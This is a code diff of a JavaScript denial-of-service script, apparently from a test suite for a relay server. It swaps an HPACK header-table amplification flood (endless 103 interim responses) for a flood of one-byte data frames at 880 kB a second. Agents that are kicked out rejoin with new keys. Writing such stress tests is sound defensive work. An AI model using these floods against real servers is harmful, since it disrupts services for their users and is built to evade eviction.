@@ -1,19 +1,18 @@
-// Agents that answer with interim responses without end, each of which refers 15 times to one large entry of the HPACK table:
-// 880 kB a second. One that is sent away comes back with a new key.
+// Agents that answer with data of one byte without end: 880 kB a second, which are 98,000 frames. One that is sent away comes
+// back with a new key.
 import { get } from 'node:http';
 import { setTimeout as pause } from 'node:timers/promises';
 import { runAttack } from './attack.js';
-import { field, frame, headers, indexedField, newestField, types } from './frames.js';
+import { frame, head, types } from './frames.js';
 import { joinAsStranger } from './strange-agent.js';
 
 const bytesPerSecond = 880_000;
 const perSecond = 50;
 const streamId = 1;
 
-const entry = headers(streamId, [field(':status', '103'), indexedField('x', 'a'.repeat(4000))]);
-const interim = headers(streamId, [field(':status', '103'), newestField(15)]);
-const count = Math.ceil(bytesPerSecond / perSecond / interim.length);
-const burst = Buffer.concat(Array.from({ length: count }, () => interim));
+const piece = frame(types.data, streamId, Buffer.from('x'));
+const count = Math.ceil(bytesPerSecond / perSecond / piece.length);
+const burst = Buffer.concat(Array.from({ length: count }, () => piece));
 
 /** @type {import('ws').WebSocket | undefined} */
 let socket;
@@ -36,11 +35,10 @@ async function join(attack) {
   const joined = await joinAsStranger(attack.url, { origin: attack.origin });
   attack.count(joined.answer);
   if (joined.answer === 'welcome') {
-    joined.socket.send(frame(types.settings, 0, 0));
     // An accomplice opens the stream.
     get(`${attack.url}/${joined.name}`, (response) => response.resume()).on('error', () => attack.count('lost'));
     await pause(100);
-    joined.socket.send(entry);
+    joined.socket.send(head(streamId, 200, []));
     socket = joined.socket;
   }
   isJoining = false;
